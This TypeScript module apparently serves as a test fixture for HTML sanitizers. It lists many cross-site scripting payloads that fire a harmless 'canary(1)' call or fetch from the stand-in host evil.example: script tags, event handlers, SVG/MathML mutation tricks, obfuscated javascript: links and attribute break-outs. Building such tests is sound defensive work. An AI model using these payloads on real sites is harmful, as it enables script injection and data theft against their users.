/** What a payload tries to call or fetch; a canary listens for both. */
const run = 'canary(1)';
const foreign = 'https://evil.example';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${foreign}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\u0020type="module">import("${foreign}/m.js")</script>`,
  `<script/xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  `<script>/*<p>*/${run}//</p></script>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror\u000a=${run}>`,
  `<img/src="x"/onerror="${run}">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<body onload=${run}>`,
  `<p onclick=${run} onmouseover=${run} onfocus=${run} tabindex=0 autofocus>focus</p>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<video autoplay onloadstart=${run}><source src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${run}>x</div>`,
  `<x onpointerenter=${run} style="position:fixed;inset:0">x</x>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>y</button>`,
  `<a href=# accesskey=x onclick=${run}>x</a>`,
];

const foreignContent = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];

const confusion = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<textarea><img title="</textarea><img src onerror=${run}>"></textarea>`,
  `<select><style></select><img src=x onerror=${run}></style></select>`,
  `<table><td><a><table><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<a title="<script>${run}</script>">x</a>`,
  `<isindex type=image src=1 onerror=${run}>`,
];

const documentChanging = [
  `<base href="${foreign}/">`,
  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="${foreign}/a.css">`,
  `<link rel=prefetch href="${foreign}/p">`,
  `<style>@import "${foreign}/a.css";</style>`,
  `<style>body{background:url(${foreign}/b)}</style>`,
  `<p style="background:url(${foreign}/c)">x</p>`,
  `<p style="width:expression(${run});-moz-binding:url(${foreign}/x.xml#y)">x</p>`,
  `<table background="${foreign}/t"><td background="${foreign}/d">x</td></table>`,
  `<iframe src="${foreign}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.${run}">`,
  `<frameset onload=${run}><frame src="${foreign}"></frameset>`,
  `<object data="${foreign}/o"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4="></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code="x" codebase="${foreign}"></applet>`,
  `<form action="${foreign}"><button autofocus>x</button></form>`,
  `<form id=f action="javascript:${run}"></form><button form=f>x</button>`,
  `<input type=image src="${foreign}/i" formaction="javascript:${run}">`,
  `<img src="${foreign}/i" srcset="${foreign}/1 1x, ${foreign}/2 2x">`,
  `<picture><source srcset="${foreign}/s"><img src="${foreign}/i"></picture>`,
  `<video poster="${foreign}/v" src="${foreign}/w"></video>`,
  `<portal src="${foreign}"></portal>`,
];

/** Addresses, which are also tried as the links of buttons. */
export const linkPayloads: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `javascript\u00a0:${run}`,
  `javascript:alert(document.domain)//http://x.example`,
  `&#106;avascript:${run}`,
  `&#x6a;&#x61;vascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `javascript&#58;${run}`,
  `%6aavascript:${run}`,
  `\u200bjavascript:${run}`,
  `\u202ejavascript:${run}`,
  `jav\u0430script:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`,
  `blob:${foreign}/x`,
  `feed:javascript:${run}`,
  `//evil.example/x`,
  `/\\evil.example`,
  `\\\\evil.example\\x`,
  `https:evil.example`,
  `x" onmouseover="${run}`,
  `'><img src=x onerror=${run}>`,
];

const breakOuts = [
  `" onfocus=${run} autofocus x="`,
  `' onmouseover='${run}`,
  `"><img src=x onerror=${run}>`,
  `'"></p><svg/onload=${run}>`,
  `\`\${canary(1)}\``,
  '{{constructor.constructor("canary(1)")()}}',
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `＜script＞${run}＜/script＞`,
  `\u202e>tpircs<${run}\u202c`,
  `<\u200bscript>${run}</script>`,
  `<img src=x on\u200berror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>`,
];

function asLink(address: string): string {
  return `<a href="${address.replaceAll('"', '&quot;')}">x</a>`;
}

/** Each is HTML that would run something, load something or change the page if it were taken for what it is. */
export const htmlPayloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreignContent,
  ...confusion,
  ...documentChanging,
  ...breakOuts,
  ...linkPayloads.map(asLink),
];

/** In portions that fit a field, each payload whole. */
export function inPortions(payloads: readonly string[], maxLength: number): string[] {
  return payloads.reduce<string[]>((portions, payload) => {
    const last = portions.at(-1);
    if (last !== undefined && last.length + payload.length <= maxLength)
      portions[portions.length - 1] += payload;
    else portions.push(payload);
    return portions;
  }, []);
}
